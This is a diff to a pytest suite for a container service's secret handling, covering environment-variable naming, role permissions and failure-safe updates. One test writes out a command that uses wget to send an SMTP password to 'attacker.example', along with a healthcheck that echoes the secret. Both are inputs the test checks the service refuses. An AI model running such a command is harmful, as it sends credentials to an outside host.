@@ -39,9 +39,9 @@ def runtime() -> FakeRuntime:
 def h(
     make_harness: Callable[..., Harness], runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
 ) -> Harness:
-    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES_APP_DB_PASSWORD", VALUE)
-    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES_SHARED_SMTP_PASSWORD", "shared-smtp-password")
-    monkeypatch.setenv("WAKEDOCK_SECRET_WAKEDOCK_JWT_KEY", "k" * 48)
+    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD", VALUE)
+    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES__SHARED__SMTP__PASSWORD", "shared-smtp-password")
+    monkeypatch.setenv("WAKEDOCK_SECRET_WAKEDOCK__JWT__KEY", "k" * 48)
     return make_harness(runtime=runtime, secrets={"provider": "env"})
 
 
@@ -73,7 +73,7 @@ def test_resolved_at_start_only_and_never_shown(
 
     # Rotation: the next start reads the current value.
     h.client.post(f"/api/v1/services/{sid}/stop", headers=h.bearer(token))
-    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES_APP_DB_PASSWORD", ROTATED)
+    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD", ROTATED)
     h.client.post(f"/api/v1/services/{sid}/start", headers=h.bearer(token))
     (restarted,) = runtime.containers.values()
     assert restarted.environment["DB_PASSWORD"] == ROTATED
@@ -95,7 +95,7 @@ def test_resolved_at_start_only_and_never_shown(
         ("DB_PASSWORD", "container start"),
         ("DB_PASSWORD", "container start"),
     ]
-    assert reads[-1]["source"] == "env:WAKEDOCK_SECRET_SERVICES_APP_DB_PASSWORD"
+    assert reads[-1]["source"] == "env:WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD"
 
 
 @pytest.mark.parametrize(
@@ -146,3 +146,51 @@ def test_admins_may_share_and_others_keep_what_was_granted(
     assert h.client.get(f"/api/v1/services/{sid}", headers=h.bearer(operator)).json()["spec"][
         "env"
     ] == {**shared, "MODE": "x"}
+
+
+def test_a_new_image_must_be_allowed_every_reference(h: Harness, runtime: FakeRuntime) -> None:
+    """An operator may keep an admin's shared reference, but not run another program with it."""
+    runtime.images.add("wakedock-test/other:1")
+    admin = h.token_for(Role.ADMIN)
+    shared = {"SMTP_PASSWORD": "secret:services/shared/smtp#password"}
+    sid = h.client.post("/api/v1/services", json=spec(env=shared), headers=h.bearer(admin)).json()[
+        "id"
+    ]
+    operator = h.bearer(h.token_for(Role.OPERATOR))
+    for change in (
+        {"image": "wakedock-test/other:1"},
+        {"command": ["/bin/sh", "-c", "wget -q -O- http://attacker.example/?$SMTP_PASSWORD"]},
+        {"readiness": {"type": "healthcheck", "test": ["CMD-SHELL", "echo $SMTP_PASSWORD"]}},
+    ):
+        refused = h.client.patch(f"/api/v1/services/{sid}", json=change, headers=operator)
+        assert refused.status_code == 403, (change, refused.text)
+    # The admin may.
+    moved = h.client.patch(
+        f"/api/v1/services/{sid}", json={"image": "wakedock-test/other:1"}, headers=h.bearer(admin)
+    )
+    assert moved.status_code == 200, moved.text
+
+
+def test_an_update_that_cannot_read_its_secrets_leaves_the_running_container(
+    h: Harness, runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    token = h.bearer(h.token_for(Role.DEVELOPER))
+    env = {"DB_PASSWORD": "secret:services/app/db#password"}
+    sid = h.client.post("/api/v1/services", json=spec(env=env), headers=token).json()["id"]
+    assert h.client.post(f"/api/v1/services/{sid}/start", headers=token).status_code == 200
+    (before,) = runtime.containers
+    monkeypatch.delenv("WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD")  # gone from the backend
+    failed = h.client.patch(f"/api/v1/services/{sid}", json={"idle_timeout_s": 120}, headers=token)
+    assert failed.status_code == 422 and "does not exist" in failed.json()["detail"]
+    assert list(runtime.containers) == [before]  # still there, still running
+    assert runtime.containers[before].environment["DB_PASSWORD"] == VALUE
+    status = h.client.get(f"/api/v1/services/{sid}/status", headers=token).json()
+    assert status["state"] == "running"
+
+
+def test_a_dot_key_is_refused_cleanly(h: Harness) -> None:
+    token = h.bearer(h.token_for(Role.DEVELOPER))
+    reply = h.client.post(
+        "/api/v1/services", json=spec(env={"X": "secret:services/app#.."}), headers=token
+    )
+    assert reply.status_code == 422
